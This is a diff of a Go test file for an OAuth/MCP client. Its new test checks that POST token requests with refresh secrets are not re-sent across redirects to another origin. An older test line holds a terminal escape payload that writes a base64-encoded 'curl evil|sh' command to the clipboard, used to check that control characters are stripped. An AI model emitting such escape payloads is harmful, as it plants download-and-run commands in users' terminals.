@@ -4,11 +4,15 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
+	"io"
 	"net"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -625,5 +629,66 @@ func TestPromptDropsControls(t *testing.T) {
 	h.printf("mcp server %q: the token could not be refreshed: %v", h.name, errors.New("oauth2: \"invalid_grant\" \"\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\u009b8mgone\""))
 	if out := prompt.String(); strings.ContainsAny(out, "\x1b\x07\u009b") || !strings.Contains(out, "gone") {
 		t.Errorf("prompt %q: want the text without its control characters", out)
+	}
+}
+
+// TestSecretsFollowNoRedirect: the OAuth client follows no redirect of a
+// request that is not a GET: a token endpoint that answered 307 or 308
+// had the refresh token posted again, body and all, wherever it pointed
+// (a 302 made it a GET, with the client's Basic credentials on a
+// subdomain), past the check that the token endpoint is on the issuer's
+// host. A GET, such as the metadata's, still follows.
+func TestSecretsFollowNoRedirect(t *testing.T) {
+	var mu sync.Mutex
+	var elsewhere []string // what the other origin was sent
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		elsewhere = append(elsewhere, r.Method+" "+r.URL.Path+" "+string(b))
+		mu.Unlock()
+		w.Header().Set("Content-Type", "application/json")
+		io.WriteString(w, `{}`)
+	}))
+	defer other.Close()
+	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		status, _ := strconv.Atoi(r.URL.Query().Get("status"))
+		http.Redirect(w, r, other.URL+r.URL.Path, status)
+	}))
+	defer origin.Close()
+	u, _ := url.Parse(other.URL)
+	policy, err := egress.Parse(u.Host)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ou, _ := url.Parse(origin.URL)
+	c := newClient(originOf(ou), nil, policy)
+
+	type answer struct {
+		Request string
+		Err     bool
+	}
+	var got []answer
+	for _, status := range []int{http.StatusTemporaryRedirect, http.StatusPermanentRedirect, http.StatusFound} {
+		resp, err := c.PostForm(fmt.Sprintf("%s/token?status=%d", origin.URL, status), url.Values{"grant_type": {"refresh_token"}, "refresh_token": {"rt-secret"}})
+		if err == nil {
+			resp.Body.Close()
+		} else if !strings.Contains(err.Error(), "redirect of a POST to "+originOf(u)+" refused") {
+			t.Errorf("a %d: %v, want the redirect refused", status, err)
+		}
+		got = append(got, answer{fmt.Sprintf("POST %d", status), err != nil})
+	}
+	resp, err := c.Get(origin.URL + "/.well-known/oauth-authorization-server?status=302")
+	if err == nil {
+		resp.Body.Close()
+	}
+	got = append(got, answer{"GET 302", err != nil})
+	want := []answer{{"POST 307", true}, {"POST 308", true}, {"POST 302", true}, {"GET 302", false}}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("redirects (-want +got):\n%s", diff)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if diff := cmp.Diff([]string{"GET /.well-known/oauth-authorization-server "}, elsewhere); diff != "" {
+		t.Errorf("what the other origin was sent (-want +got):\n%s", diff)
 	}
 }
